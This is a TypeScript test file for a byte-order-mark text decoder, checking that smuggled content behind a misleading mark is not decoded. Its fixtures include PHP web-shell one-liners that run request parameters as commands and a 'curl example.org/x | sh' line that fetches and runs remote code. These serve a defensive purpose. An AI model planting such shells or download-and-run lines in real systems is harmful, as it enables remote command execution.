import { expect, it } from 'vitest';
import { decodeMarked, markedEncoding, textIn } from './decode-text.ts';

const TEXT = '\uFEFFparam($x)\r\n# größer 😀\r\n';
const little = (text: string): Buffer => Buffer.from(text, 'utf16le');
const big = (text: string): Buffer => little(text).swap16();
const wide = (text: string, isLittle: boolean): Buffer => {
  const units = Array.from(text).map((char) => char.codePointAt(0) ?? 0);
  const bytes = Buffer.alloc(units.length * 4);
  units.forEach((unit, at) =>
    isLittle ? bytes.writeUInt32LE(unit, at * 4) : bytes.writeUInt32BE(unit, at * 4),
  );
  return bytes;
};

it.each([
  ['UTF-16 LE', little],
  ['UTF-16 BE', big],
  ['UTF-32 LE', (text: string) => wide(text, true)],
  ['UTF-32 BE', (text: string) => wide(text, false)],
])('%s is decoded by its mark, which stays', (name, encode) => {
  const content = encode(TEXT);
  expect(markedEncoding(content)).toBe(name);
  expect(decodeMarked(content)).toBe(TEXT);
  expect(textIn(content)).toBe(TEXT);
});

it.each([
  ['a zero character', little('\uFEFFa\0b\n'), '\uFEFFa\uFFFDb\n'],
  ['half a pair', little('\uFEFFa\uD800b\n'), '\uFEFFa\uFFFDb\n'],
  ['half a character at the end', Buffer.concat([little('\uFEFFab\n'), Buffer.of(65)]), '\uFEFFab\n\uFFFD'],
  ['the same in the other order', Buffer.concat([big('\uFEFFab\n'), Buffer.of(65)]), '\uFEFFab\n\uFFFD'],
])('%s does not keep a text from being decoded', (_, content, expected) => {
  expect(decodeMarked(content)).toBe(expected);
});

it.each([
  ['UTF-8', Buffer.from(TEXT)],
  ['UTF-16 without a mark', little(TEXT.slice(1))],
  ['nothing', Buffer.of()],
  [
    'random bytes behind a mark',
    Buffer.concat([
      little('\uFEFF'),
      Buffer.from(Array.from({ length: 4000 }, (_, at) => (at * at * 31 + at * 7) % 251)),
    ]),
  ],
])('%s is not', (_, content) => {
  expect(decodeMarked(content)).toBeUndefined();
});

const marked = (...parts: (string | Buffer)[]): Buffer =>
  Buffer.concat([little('\uFEFF'), ...parts.map((part) => Buffer.from(part as string, 'latin1'))]);
it.each([
  ['PHP', marked('\n<?php\n/* \0 */\nsystem($_GET["c"]);\n')],
  ['PHP that is hardly there', marked(little('größer '.repeat(50)), '<?=`$_GET[1]`;', little(' größer'))],
  ['a shell script', marked('\ncurl example.org/x | sh\n# \0\n')],
  [
    'the same in the other order',
    Buffer.concat([big('\uFEFF'), Buffer.from('\ncurl example.org/x | sh\n#\0\n')]),
  ],
  ['a line at an odd byte', marked(little('größer '.repeat(50)), '\0', '\ncurl example.org/x | sh\n')],
])('%s behind a mark that says otherwise is not decoded', (_, content) => {
  expect(decodeMarked(content)).toBeUndefined();
});

it.each([
  ['Japanese', '\uFEFF# かなたかなたかなたあいうえおかきくけこ。\nがぎぐげご 日本語の文字列です\n'],
  ['Chinese', '\uFEFF# 这是一个用于配置系统的脚本文件，请不要修改。\n$路径 = "中文"\n'],
  ['Cyrillic', '\uFEFF# это сценарий для установки\n'],
])('%s in UTF-16 is decoded', (_, text) => {
  expect(decodeMarked(little(text))).toBe(text);
  expect(decodeMarked(big(text))).toBe(text);
});

it('reads UTF-8, also with a zero byte in it, and nothing else that git calls binary', () => {
  expect(textIn(Buffer.from(TEXT))).toBe(TEXT);
  expect(textIn(Buffer.from('// \0\nevil();\n'))).toBe('// \0\nevil();\n');
  expect(textIn(Buffer.of(0, 200, 201, 255))).toBeUndefined();
});
